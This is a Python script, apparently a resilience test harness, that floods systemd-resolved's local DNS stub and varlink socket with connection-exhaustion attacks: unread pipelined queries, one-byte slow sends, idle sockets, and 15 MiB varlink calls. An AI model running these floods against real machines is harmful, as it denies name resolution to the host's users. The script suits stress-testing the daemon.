"""attacker.py WHAT SECONDS COUNT: what an ordinary user can do to the daemon with sockets, COUNT of them at a time.

tcp-unread   pipelines questions for a cached name, and never reads an answer
tcp-bytes    sends one byte at a time of a message that never ends
tcp-idle     connects and does nothing
udp-idle     binds ports, and does nothing
varlink      pipelines calls whose answers are worked out anew
varlink-large  sends calls of 15 MiB
Prints "begins" when it is under way, and at the end how much it did.
"""
import selectors, socket, struct, sys, time

what, seconds, count = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
name = b''.join(bytes([len(part)]) + part for part in (b'n0', b'polite', b'test')) + b'\0'
question = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('!2H', 1, 1)
varlink = b''.join(
    b'{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"n%d.polite.test","flags":%d}}\0' % (i % 50, i % 7 << 14)
    for i in range(200)
)
payloads = {
    'tcp-unread': (struct.pack('!H', len(question)) + question) * 500,
    'tcp-bytes': b'\xff',
    'varlink': varlink,
    'varlink-large': b'{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"' + b'x' * (15 << 20) + b'"}}\0',
}
sends, reads = what in payloads, what.startswith('varlink')
done, opened = 0, 0


def connection():
    if what == 'udp-idle':
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind(('127.0.0.1', 0))
        return one
    family, at = (socket.AF_UNIX, '/run/systemd/resolve/io.systemd.Resolve') if reads else (socket.AF_INET, ('127.0.0.53', 53))
    one = socket.socket(family, socket.SOCK_STREAM)
    if family == socket.AF_INET: one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    one.settimeout(5)
    one.connect(at)
    one.setblocking(False)
    return one


def step(one):
    """False when the connection is over."""
    global done
    try:
        if reads:
            try:
                if not one.recv(1 << 20): return False
            except BlockingIOError: pass
        if sends: done += one.send(payloads[what])
        else: one.recv(1)
    except BlockingIOError: return True
    except OSError: return False
    return sends


print('begins', flush=True)
end, all_of_them = time.monotonic() + seconds, []
while time.monotonic() < end:
    try:
        while len(all_of_them) < count and time.monotonic() < end:
            all_of_them.append(connection())
            opened += 1
    except OSError: pass
    if sends: all_of_them = [one for one in all_of_them if step(one)]
    time.sleep(0.001 if sends else 0.1)
print('{"opened":%d,"sent":%d}' % (opened, done), flush=True)
